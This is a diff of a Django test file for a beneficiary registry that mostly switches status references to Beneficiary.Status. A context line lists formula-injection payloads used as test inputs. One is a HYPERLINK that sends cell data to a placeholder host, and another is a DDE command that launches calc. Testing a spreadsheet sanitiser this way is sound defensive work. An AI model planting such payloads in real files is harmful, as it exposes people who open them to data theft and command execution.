@@ -8,7 +8,7 @@ from django.urls import reverse
 
 from beneficiaries.forms import BeneficiaryForm
 from beneficiaries.importing import build_plan, read_upload
-from beneficiaries.models import AccessLog, Beneficiary, Status
+from beneficiaries.models import AccessLog, Beneficiary
 from beneficiaries.tasks import differs_from_preview
 from beneficiaries.views.registry import save_beneficiary
 from reintegration.lib.spreadsheets import spreadsheet_safe
@@ -49,7 +49,7 @@ def test_the_admin_shows_beneficiaries_read_only_and_logs_each_look(client_for, 
     assert AccessLog.objects.filter(beneficiary=person_, action="view").count() == 2
     client.post(f"/admin/beneficiaries/beneficiary/{person_.pk}/change/", {"status": "funded", "cin": "ab 1"})
     person_.refresh_from_db()
-    assert (person_.status, person_.cin) == (Status.REGISTERED, "AB123467")
+    assert (person_.status, person_.cin) == (Beneficiary.Status.REGISTERED, "AB123467")
 
 
 @pytest.mark.parametrize("payload", ['-1+HYPERLINK("http://x/?"&A2,"x")', "+1+cmd|' /C calc'!A0", "=1+1", "@SUM(A1)"])
@@ -101,7 +101,7 @@ def test_a_status_change_keeps_a_concurrent_edit_of_the_name(khemisset_staff):
     beneficiary = BeneficiaryFactory(first_name="Karim", last_name="Tazi")
     stale = Beneficiary.objects.get(pk=beneficiary.pk)
     Beneficiary.objects.filter(pk=beneficiary.pk).update(last_name="Tazi-Alaoui")  # an edit saved meanwhile
-    stale.move_to(Status.ACCOMPANIED, by=khemisset_staff)
+    stale.move_to(Beneficiary.Status.ACCOMPANIED, by=khemisset_staff)
     saved = Beneficiary.objects.get(pk=beneficiary.pk)
-    assert (saved.status, saved.last_name) == (Status.ACCOMPANIED, "Tazi-Alaoui")
+    assert (saved.status, saved.last_name) == (Beneficiary.Status.ACCOMPANIED, "Tazi-Alaoui")
     assert saved.history.first().last_name == "Tazi-Alaoui"
